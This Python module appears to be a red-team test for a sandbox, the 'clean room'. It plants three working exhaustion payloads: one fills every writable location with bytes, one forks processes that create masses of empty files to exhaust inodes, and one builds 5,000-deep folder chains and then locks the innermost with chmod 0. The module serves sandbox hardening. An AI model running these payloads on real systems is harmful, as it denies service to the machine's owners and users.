"""The clean room's disk: bytes, files without bytes, and folders deeper than a recursion goes."""

from redteam.tricks import plant, play

TITLE = "Exhausting the clean room's disk, inodes and depth"
SAYS = "every writable place filled with bytes; with a million empty files; with a chain of 5,000 folders"

_BYTES = """\
_canary("bytes")
for _place in ("/tmp", "/dev/shm", "/scratch", _os.environ.get("HOME", "/tmp")):
    for _n in range(10):
        try:
            with open(f"{_place}/fill{_n}", "wb") as _f:
                while True: _f.write(bytes(1 << 20))
        except OSError:
            pass
"""

_FILES = """\
_canary("files")
_end = _time.monotonic() + 12
for _place in ("/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp")):
    for _part in range(8):
        if _os.fork() == 0:
            try:
                _os.mkdir(f"{_place}/{_part}-{_os.getpid()}")
                _os.chdir(f"{_place}/{_part}-{_os.getpid()}")
                _n = 0
                while _time.monotonic() < _end:
                    _os.close(_os.open(str(_n), _os.O_CREAT | _os.O_WRONLY))
                    _n += 1
            finally:
                _os._exit(0)
try:
    while True: _os.wait()
except OSError:
    pass
"""

_DEEP = """\
_canary("deep")
for _place in ("/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp")):
    _os.chdir(_place)
    for _n in range(5000):
        try:
            _os.mkdir("d" * 40)
            _os.chdir("d" * 40)
        except OSError:
            break
    try:
        _os.chmod(".", 0)
    except OSError:
        pass
"""


def acts(script, token):
    return play(plant(token, _BYTES), plant(token, _FILES), plant(token, _DEEP))


def landed(seen):
    return seen.ran("bytes", "files", "deep")
